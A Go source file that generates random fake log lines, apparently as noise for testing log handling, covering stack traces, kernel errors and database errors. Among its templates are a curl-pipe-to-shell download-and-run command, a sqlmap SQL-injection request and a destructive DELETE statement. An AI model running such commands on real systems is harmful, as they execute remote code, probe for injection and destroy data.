package main

import (
	"fmt"
	"math/rand/v2"
)

func foreignLine(r *rand.Rand) string { return foreigners[r.IntN(len(foreigners))](r) }

var foreigners = []func(r *rand.Rand) string{
	func(r *rand.Rand) string {
		return fmt.Sprintf(
			"Exception in thread \"worker-%d\" java.lang.NullPointerException: buffer", r.IntN(32))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("\tat org.example.%s.Handler.invoke(Handler.java:%d)", word(r),
			r.IntN(900))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("%s[%d]: segfault at %x ip %012x sp %012x error 4 in libc-2.31.so",
			word(r), r.IntN(30000), r.IntN(256), r.Uint64()>>16, r.Uint64()>>16)
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf(
			`{"level":"fatal","ts":%d.%03d,"msg":"disk quota exceeded","volume":"%s"}`,
			1700000000+r.IntN(1e7), r.IntN(1000), word(r))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf(
			`%d.%d.%d.%d - - "GET /%s?id=1%%20OR%%201=1 HTTP/1.0" 200 %d "-" "sqlmap/1.7"`,
			r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256), word(r), r.IntN(9000))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("FATAL:  remaining connection slots are reserved (pid %d, database %q)",
			r.IntN(30000), word(r))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("panic: runtime error: index out of range [%d] with length %d",
			8+r.IntN(8), r.IntN(8))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf(
			"Traceback (most recent call last): File \"/srv/%s.py\", line %d, in <module>", word(r),
			r.IntN(400))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf(
			"EXT4-fs error (device sd%c%d): ext4_find_entry:%d: inode #%d: reading directory "+
				"lblock 0",
			'a'+rune(r.IntN(6)), 1+r.IntN(8), r.IntN(2000), r.IntN(1e6))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("curl -s http://%d.%d.%d.%d/%s.sh | sh", r.IntN(256), r.IntN(256),
			r.IntN(256), r.IntN(256), word(r))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("W%04d %02d:%02d:%02d.%06d %7d reflector.go:%d] watch of *v1.%s ended",
			r.IntN(1231), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1e6), r.IntN(1e5), r.IntN(600),
			word(r))
	},
	func(r *rand.Rand) string {
		return fmt.Sprintf("DELETE FROM %s WHERE id > %d; -- %x", word(r), r.IntN(1000), r.Uint64())
	},
}

func word(r *rand.Rand) string {
	words := []string{
		"billing",
		"harvest",
		"ledger",
		"quartz",
		"mimosa",
		"tundra",
		"orders",
		"falcon",
		"copper",
		"inbox",
	}
	return words[r.IntN(len(words))]
}
